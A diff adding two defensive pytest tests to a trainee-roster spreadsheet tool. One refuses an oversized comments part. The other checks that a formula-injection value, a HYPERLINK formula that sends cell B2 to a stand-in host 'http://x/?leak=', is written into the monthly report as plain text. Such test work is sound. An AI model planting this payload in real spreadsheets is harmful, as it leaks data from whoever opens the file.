@@ -867,3 +867,51 @@ def test_unreferenced_parts_are_not_scanned_for_cells(
     result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM)
     assert result.code == 0, result.err
     assert time.monotonic() - started < 15
+
+
+def test_a_flood_of_comments_is_refused(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
+) -> None:
+    """20,001 tiny comments in a comments part (28 s in openpyxl once): exit 2, one line."""
+    comments = (
+        b'<?xml version="1.0"?><comments><authors><author>x</author></authors><commentList>'
+        + b'<comment ref="A1" authorId="0"><text><t>x</t></text></comment>' * 20_001
+        + b"</commentList></comments>"
+    )
+    sheet = inject_sheet_xml(
+        roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)]),
+        b"",
+        extra={"xl/comments1.xml": comments},
+    )
+    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM)
+    assert result.code == 2 and len(result.err_lines) == 1 and "批注" in result.err
+
+
+def test_the_monthly_report_keeps_formula_like_text_as_text(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
+) -> None:
+    """An institution named `=HYPERLINK(…)` is text in the report's 培训机构 sheet."""
+    evil = '=HYPERLINK("http://x/?leak="&B2,"点我")'
+    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A, evil)])
+    book = openpyxl.load_workbook(sheet)
+    ws = book.active
+    assert ws is not None
+    ws.cell(row=3, column=HEADER.index("培训机构") + 1).data_type = "s"
+    book.save(sheet)
+    ledger = tmp_path / "l.sqlite3"
+    paid = run(tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "--ledger", ledger,
+               "--commit")  # fmt: skip
+    assert paid.code in (0, 1), paid.err
+    month = dt.date.today().strftime("%Y-%m")
+    result = run(tmp_path, capsys, monkeypatch, "report", "monthly", "--month", month,
+                 "--ledger", ledger, "--out", tmp_path / "月报")  # fmt: skip
+    assert result.code == 0, result.err
+    report = openpyxl.load_workbook(tmp_path / "月报" / month / f"月报-{month}.xlsx")
+    cells = [
+        cell
+        for ws_ in report.worksheets
+        for row in ws_.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
+    ]
+    assert cells and all(cell.data_type == "s" for cell in cells)
